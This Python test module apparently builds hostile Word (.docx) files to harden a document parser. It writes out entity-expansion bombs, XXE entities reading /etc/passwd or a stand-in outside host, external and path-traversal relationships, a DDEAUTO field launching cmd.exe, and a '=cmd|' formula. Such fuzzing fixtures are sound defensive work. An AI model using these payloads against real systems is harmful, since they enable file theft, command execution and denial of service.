"""Hostile Word files: entities, parts elsewhere, depth, width, circles of styles and lists, numbers without end."""

from __future__ import annotations

import io
import zipfile
from functools import partial

from tests.hostile.archives import zipped
from tests.hostile.parts import Cost, Hostile, Recipes, chance_for

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_OUT = "http://203.0.113.7/x"
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
_LINE = "<w:p><w:r><w:t>Some words that stand in a text.</w:t></w:r></w:p>"


def files() -> list[Hostile]:
    """Return every hostile Word file."""
    recipes = Recipes("docx", ".docx")
    _entities(recipes)
    _elsewhere(recipes)
    _depth(recipes)
    _circles(recipes)
    _numbers(recipes)
    _packages(recipes)
    recipes.cut("good", word)
    return recipes.files


def word(body: str = _LINE, head: str = "", relations: str = "", **parts: str | bytes) -> bytes:
    """Make a Word file; parts are named styles, numbering, footnotes and the like."""
    kinds = "".join(
        f'<Relationship Id="p{at}" Type="{_TYPE}{name}" Target="{name}.xml"/>' for at, name in enumerate(parts)
    )
    made: dict[str, str | bytes] = {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": _relations(f'<Relationship Id="a" Type="{_TYPE}officeDocument" Target="word/document.xml"/>'),
        "word/document.xml": f"{head}<w:document {_W} {_R}><w:body>{body}</w:body></w:document>",
        "word/_rels/document.xml.rels": _relations(kinds + relations),
    }
    for name, inside in parts.items():
        wrapped = f"<w:{name} {_W} {_R}>{inside}</w:{name}>" if isinstance(inside, str) else inside
        made[f"word/{name}.xml"] = wrapped
    return _packed(made)


def _packed(parts: dict[str, str | bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return stream.getvalue()


def _relations(inside: str) -> str:
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inside}</Relationships>'
    )


def _entities(recipes: Recipes) -> None:
    laughs = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{at} "{f"&a{at - 1};" * 10}">' for at in range(1, 12))
    declared = {
        "laughs": f"<!DOCTYPE x [{laughs}]>",
        "quadratic": f'<!DOCTYPE x [<!ENTITY a11 "{"a" * 50_000}">]>',
        "file": '<!DOCTYPE x [<!ENTITY a11 SYSTEM "file:///etc/passwd">]>',
        "network": f'<!DOCTYPE x [<!ENTITY a11 SYSTEM "{_OUT}">]>',
        "parameter": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{_OUT}"> %p; <!ENTITY a11 "a">]>',
        "itself": '<!DOCTYPE x [<!ENTITY a11 "&a11;">]>',
        "external": f'<!DOCTYPE x SYSTEM "{_OUT}.dtd"><!-- &a11; -->',
        "small-letters": '<!doctype x [<!entity a11 "a">]>',
        "spaced": '<!DOCTYPE\n\tx\n[<!ENTITY\n\ta11 "a">]>',
    }
    body = "<w:p><w:r><w:t>&a11;&a11;</w:t></w:r></w:p>"
    for name, head in declared.items():
        recipes.add(f"entity-{name}", word(body, head))
    bomb = f"{declared['laughs']}<w:document {_W}><w:body>{body}</w:body></w:document>"
    for codec in ("utf-16", "utf-16-le", "utf-16-be", "utf-7", "utf-32", "cp037"):
        text = f'<?xml version="1.0" encoding="{codec}"?>{bomb}'.encode(codec)
        recipes.add(f"entity-in-{codec}", _packed({**_parts(), "word/document.xml": text}))
    recipes.add("entity-in-styles", word(styles=declared["laughs"].encode() + b"<x>&a11;</x>"))
    recipes.add("entity-in-relations", _packed({**_parts(), "_rels/.rels": declared["laughs"] + "<x>&a11;</x>"}))
    recipes.add("stylesheet", word(head=f'<?xml-stylesheet href="{_OUT}.xsl"?>'))


def _parts() -> dict[str, str | bytes]:
    with zipfile.ZipFile(io.BytesIO(word())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _elsewhere(recipes: Recipes) -> None:
    for kind in ("image", "attachedTemplate", "hyperlink", "oleObject", "subDocument", "frame", "header", "styles"):
        for name, target in (
            ("network", f"{_OUT}.bin"),
            ("share", r"\\203.0.113.7\share\x"),
            ("file", "file:///etc/passwd"),
        ):
            out = f'<Relationship Id="x" Type="{_TYPE}{kind}" Target="{target}" TargetMode="External"/>'
            used = (
                f'<w:p><w:hyperlink r:id="x"><w:r><w:t>a</w:t></w:r></w:hyperlink></w:p><w:altChunk r:id="x"/>{_LINE}'
            )
            section = '<w:sectPr><w:headerReference r:id="x" w:type="default"/></w:sectPr>'
            recipes.add(f"outside-{kind}-{name}", word(used + section, relations=out))
    for name, target in {
        "up": "../../../../../etc/passwd",
        "absolute": "/etc/passwd",
        "itself": "document.xml",
        "relations": "_rels/document.xml.rels",
        "nul": "a%00b.xml",
        "long": "a/" * 30_000,
    }.items():
        inside = f'<Relationship Id="x" Type="{_TYPE}header" Target="{target}"/>'
        section = '<w:sectPr><w:headerReference r:id="x" w:type="default"/></w:sectPr>'
        recipes.add(f"part-{name}", word(_LINE + section, relations=inside))
    field = "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>{}</w:instrText></w:r>{}</w:p>"
    for name, command in {"include": f'INCLUDETEXT "{_OUT}"', "dde": 'DDEAUTO c:\\\\cmd.exe "/k calc"'}.items():
        recipes.add(f"field-{name}", word(field.format(command, "<w:r><w:t>a</w:t></w:r>") + _LINE))


def _depth(recipes: Recipes) -> None:
    for depth in (200, 5000, 200_000):
        cost = Cost.CHEAP if depth < 100_000 else Cost.HEAVY
        table = "<w:tbl><w:tr><w:tc>" * depth + _LINE + "</w:tc></w:tr></w:tbl>" * depth
        recipes.add(f"tables-{depth}-deep", partial(word, table), cost)
        boxes = "<w:p><w:r><w:txbxContent>" * depth + "</w:txbxContent></w:r></w:p>" * depth
        recipes.add(f"boxes-{depth}-deep", partial(word, boxes), cost)
        controls = "<w:sdt><w:sdtContent>" * depth + _LINE + "</w:sdtContent></w:sdt>" * depth
        recipes.add(f"controls-{depth}-deep", partial(word, controls), cost)
        runs = "<w:p>" + "<w:ins>" * depth + "<w:r><w:t>a</w:t></w:r>" + "</w:ins>" * depth + "</w:p>"
        recipes.add(f"insertions-{depth}-deep", partial(word, runs), cost)
        strange = "<w:x>" * depth + "</w:x>" * depth
        recipes.add(f"elements-{depth}-deep", partial(word, strange), cost)
    fields = "<w:r><w:fldChar w:fldCharType='begin'/></w:r>" * 20_000
    recipes.add("fields-open", word(f"<w:p>{fields}<w:r><w:t>a</w:t></w:r></w:p>{_LINE}"))
    recipes.add("fields-closed", word(f"<w:p>{fields.replace('begin', 'end')}</w:p>{_LINE}"))
    cell = "<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>"
    recipes.add(
        "cells-100000", lambda: word("<w:tbl>" + ("<w:tr>" + cell * 100 + "</w:tr>") * 1000 + "</w:tbl>"), Cost.HEAVY
    )
    recipes.add("cells-5000", lambda: word("<w:tbl>" + ("<w:tr>" + cell * 10 + "</w:tr>") * 500 + "</w:tbl>"))
    recipes.add("one-row", lambda: word("<w:tbl><w:tr>" + cell * 20_000 + "</w:tr></w:tbl>"), Cost.HEAVY)
    recipes.add("paragraphs-200000", lambda: word("<w:p/>" * 200_000 + _LINE), Cost.HEAVY)
    recipes.add("runs-50000", lambda: word("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 50_000 + "</w:p>"), Cost.HEAVY)
    recipes.add("text-21-million", lambda: word(f"<w:p><w:r><w:t>{'ก' * 21_000_000}</w:t></w:r></w:p>"), Cost.HEAVY)
    recipes.add("breaks-100000", lambda: word("<w:p><w:r>" + "<w:br/>" * 100_000 + "</w:r></w:p>" + _LINE))
    names = " ".join(f'w:a{at}="1"' for at in range(20_000))
    recipes.add("attributes-20000", lambda: word(f"<w:p {names}/>{_LINE}"))
    many = " ".join(f'xmlns:n{at}="u{at}"' for at in range(5000))
    recipes.add("namespaces-5000", lambda: word(f"<w:p {many}/>{_LINE}"))


def _circles(recipes: Recipes) -> None:
    based = (
        '<w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style>'
    )
    used = '<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>a</w:t></w:r></w:p>'
    recipes.add("styles-circle", word(used, styles=based))
    recipes.add("style-itself", word(used, styles='<w:style w:styleId="a"><w:basedOn w:val="a"/></w:style>'))
    chain = "".join(f'<w:style w:styleId="s{at}"><w:basedOn w:val="s{at + 1}"/></w:style>' for at in range(20_000))
    recipes.add("styles-chain", lambda: word(used.replace('"a"', '"s0"'), styles=chain))
    listed = (
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="{}"/><w:numId w:val="{}"/></w:numPr></w:pPr><w:r><w:t>a</w:t></w:r></w:p>'
    )
    level = '<w:lvl w:ilvl="0"><w:start w:val="{}"/><w:numFmt w:val="{}"/><w:lvlText w:val="{}"/></w:lvl>'
    number = (
        '<w:abstractNum w:abstractNumId="0">{}</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
    )
    for name, (start, shown, text) in {
        "huge": ("99999999999999999999", "decimal", "%1."),
        "roman-huge": ("999999999", "upperRoman", "%1."),
        "letters-huge": ("999999999", "lowerLetter", "%1."),
        "words-huge": ("999999999999", "thaiCounting", "%1."),
        "negative": ("-5", "upperRoman", "%1."),
        "text-long": ("1", "decimal", "%1" * 30_000),
        "text-all": ("1", "decimal", "%0%1%2%3%4%5%6%7%8%9%%"),
        "unknown": ("1", "hebrew99", "%1"),
        "not-a-number": ("x", "decimal", "%1"),
    }.items():
        inside = number.format(level.format(start, shown, text))
        recipes.add(f"list-{name}", word(listed.format(0, 1) * 50, numbering=inside))
    recipes.add(
        "list-link-itself",
        word(listed.format(0, 1), numbering=number.format('<w:numStyleLink w:val="a"/>'), styles=based),
    )
    for level_told in ("-1", "99", "999999999999", "x"):
        inside = number.format(level.format(1, "decimal", "%1"))
        recipes.add(f"list-level-{level_told}", word(listed.format(level_told, 1), numbering=inside))
    note = '<w:footnote w:id="1"><w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p></w:footnote>'
    recipes.add("note-in-itself", word('<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>', footnotes=note))
    circle = f'<Relationship Id="x" Type="{_TYPE}header" Target="header1.xml"/>'
    recipes.add("header-missing", word(_LINE + '<w:sectPr><w:headerReference r:id="x"/></w:sectPr>', relations=circle))


def _numbers(recipes: Recipes) -> None:
    for name, value in {"huge": "9" * 5000, "negative": "-5", "word": "x", "thai": "๕", "empty": ""}.items():
        cell = f'<w:tc><w:tcPr><w:gridSpan w:val="{value}"/></w:tcPr>{_LINE}</w:tc>'
        row = f'<w:tr><w:trPr><w:gridBefore w:val="{value}"/></w:trPr>{cell * 3}</w:tr>'
        recipes.add(f"span-{name}", word(f"<w:tbl>{row * 3}</w:tbl>"))
    marks = {"nul": "&#0;", "surrogate": "&#xD800;", "far": "&#x7FFFFFFF;", "control": "&#1;", "bidi": "&#x202E;"}
    for name, mark in marks.items():
        recipes.add(f"character-{name}", word(f"<w:p><w:r><w:t>a{mark}b</w:t></w:r></w:p>{_LINE}"))
    for code in ("F0FE", "0", "FFFFFFFFF", "-1", "x", "D800"):
        symbol = f'<w:p><w:r><w:sym w:font="Wingdings" w:char="{code}"/></w:r></w:p>{_LINE}'
        recipes.add(f"symbol-{code}", word(symbol))
    recipes.add("formula", word("<w:p><w:r><w:t>=cmd|' /C calc'!A1</w:t></w:r></w:p>"))


def _packages(recipes: Recipes) -> None:
    parts = _parts()
    for name in parts:
        short = name.strip("[]_").replace("/", "-")
        recipes.add(f"without-{short}", _packed({key: data for key, data in parts.items() if key != name}))
        for kind, data in (
            ("empty", b""),
            ("rubbish", chance_for(name).randbytes(900)),
            ("zeros", bytes(900)),
            ("text", b"x"),
        ):
            recipes.add(f"{short}-{kind}", _packed({**parts, name: data}))
        recipes.add(f"{short}-half", _packed({**parts, name: bytes(parts[name])[: len(parts[name]) // 2]}))  # type: ignore[arg-type]
    recipes.add("document-zeros-65", lambda: _packed({**parts, "word/document.xml": b" " * (65 * 2**20)}), Cost.HEAVY)
    recipes.add("document-zeros-60", lambda: _packed({**parts, "word/document.xml": b" " * (60 * 2**20)}), Cost.HEAVY)
    recipes.add("other-root", _packed({**parts, "word/document.xml": "<x/>"}))
    recipes.add("two-documents", _packed({**parts, "Word/Document.xml": "<x/>"}))
    recipes.add("macros", word(), suffix=".docm")
    recipes.add("of-words-zip", zipped({"word/document.xml": b"<x/>", "[Content_Types].xml": b"<x/>"}))
    lock = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000)
    recipes.add("locked", lock + "EncryptedPackage".encode("utf-16-le") + bytes(1000))
    recipes.add("old", lock + "WordDocument".encode("utf-16-le") + bytes(1000), Cost.HEAVY)
    recipes.add("old-rubbish", lock[:8] + chance_for("ole").randbytes(5000))
